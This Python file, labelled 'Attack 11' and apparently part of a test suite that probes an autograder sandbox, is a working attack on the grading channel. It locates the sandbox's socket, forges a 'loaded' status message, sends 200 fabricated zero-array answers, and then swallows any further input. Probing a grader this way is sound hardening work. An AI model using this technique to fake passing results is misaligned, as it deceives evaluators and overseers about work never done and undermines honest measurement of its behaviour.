"""Attack 11: forge the message that says that loading went well, then all answers."""

import os
import stat
import struct
import sys

import numpy as np

encode = sys.modules["autograder.sandbox.codec"].encode


def channel():
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise RuntimeError


def say(body, length=None):
    os.write(channel(), struct.pack("<Q", len(body) if length is None else length) + body)


say(encode(((), ("step", "sigmoid"), "loaded")))
for number in range(200):
    say(encode((number, "returned", encode(np.zeros(3)), (), (), "")))
while True:
    os.read(channel(), 2**16)
